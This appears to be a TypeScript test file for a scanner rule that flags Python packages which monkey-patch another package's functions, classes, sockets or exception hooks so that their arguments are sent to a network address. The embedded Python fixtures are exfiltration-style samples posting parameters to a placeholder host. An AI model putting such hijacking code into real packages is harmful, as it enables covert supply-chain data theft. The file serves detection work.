import { expect, test } from 'vitest';
import { loadPythonParser } from '../../src/python/parser.js';
import { readSource } from '../../src/python/read-source.js';
import parameterToNetwork from '../../src/rules/parameter-to-network.js';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });

async function severities(module: string): Promise<readonly string[]> {
  const text = `import urllib.request\nimport ${module}\n\n\ndef mine(day):\n    return urllib.request.urlopen("https://example.invalid/" + day)\n\n\n${module}.sow = mine\n`;
  const { facts } = await readSource({ path: 'garden-1.0/src/garden/build.py', bytes: Buffer.from(text), runs: 'import' }, () => parser);
  return facts === null ? [] : parameterToNetwork.check(facts).map(({ severity }) => severity);
}

test("what sends to one address all that another package's function is given is blocked", async () => {
  expect(await severities('meadow')).toEqual(['critical']);
});

test("a class that takes the place of another package's is given what its methods were given", async () => {
  const text = 'import urllib.request\nimport meadow\n\n\nclass Gate(meadow.Gate):\n    def open(self, key):\n        urllib.request.urlopen("https://example.invalid/" + key)\n\n\nmeadow.Gate = Gate\n';
  const { facts } = await readSource({ path: 'garden-1.0/src/garden/build.py', bytes: Buffer.from(text), runs: 'import' }, () => parser);
  expect(facts === null ? [] : parameterToNetwork.check(facts).map(({ severity, message }) => `${severity}: ${message}`)).toEqual(['critical: urllib.request.urlopen sends the parameter key of meadow.Gate.open']);
});

test('a connection that takes the place of its base sends on what it is given', async () => {
  const text = 'import socket\nimport urllib.request\n\n\nclass Tunnel(socket.socket):\n    def sendto(self, data, to):\n        self.send(data)\n\n\nurllib.request.socket.socket = Tunnel\n';
  const { facts } = await readSource({ path: 'garden-1.0/src/garden/tunnel.py', bytes: Buffer.from(text), runs: 'import' }, () => parser);
  expect(facts === null ? [] : parameterToNetwork.check(facts)).toEqual([]);
});

test('a package that adds such a function to its own module is told', async () => {
  expect(await severities('garden')).toEqual(['low']);
});

test.each([['sys', 'excepthook', 0], ['threading', 'excepthook', 0], ['sys', 'stdout_of', 1]])('what %s.%s is given goes to whoever collects reports of crashes', async (module, name, count) => {
  const text = `import ${module}\nimport urllib.request\n\n\ndef report(error):\n    urllib.request.urlopen("https://example.invalid/", data=error)\n\n\n${module}.${name} = report\n`;
  const { facts } = await readSource({ path: 'garden-1.0/src/garden/crashes.py', bytes: Buffer.from(text), runs: 'import' }, () => parser);
  expect(facts === null ? [] : parameterToNetwork.check(facts)).toHaveLength(count);
});
